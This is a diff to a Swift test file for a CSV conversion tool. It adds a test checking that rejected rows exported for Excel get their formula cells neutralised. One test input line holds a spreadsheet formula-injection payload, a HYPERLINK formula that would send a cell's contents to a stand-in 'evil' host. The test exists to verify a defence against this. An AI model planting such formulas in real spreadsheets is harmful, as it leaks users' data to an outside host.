@@ -467,4 +467,15 @@ struct HardeningTests {
         #expect(draft.errorLines == ["inv.csv: error: the output is the input inv.csv; nothing was read or written [output-over-input]"])
         #expect(try scratch.read("inv.csv") == original)
     }
+
+    @Test("rejects beside excel-csv: the lines a stray quote left unread get the formula protection too")
+    func unreadLinesProtectedForSpreadsheets() throws {
+        let scratch = try Scratch()
+        let rest = "p2,P2,Verh\"uren b,business-process,steering,,2,,,,,,,,\np3,=HYPERLINK(\"http://evil/?\"&A1;\"klik\"),x, =1+1,steering,,3,,,,,,,,\n"
+        try scratch.write("uq.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")) + rest)
+        let run = try scratch.cora("convert", "uq.csv", "--to", "excel-csv", "-o", "x.csv", "--rejects", "r.csv")
+        #expect(run.status == 2, "\(run)")
+        #expect(String(decoding: try scratch.read("r.csv"), as: UTF8.self) == Canonical.header + "\n"
+            + "p2,P2,Verh\"uren b,business-process,steering,,2,,,,,,,,\np3,'=HYPERLINK(\"http://evil/?\"&A1;\"klik\"),x,' =1+1,steering,,3,,,,,,,,\n")
+    }
 }
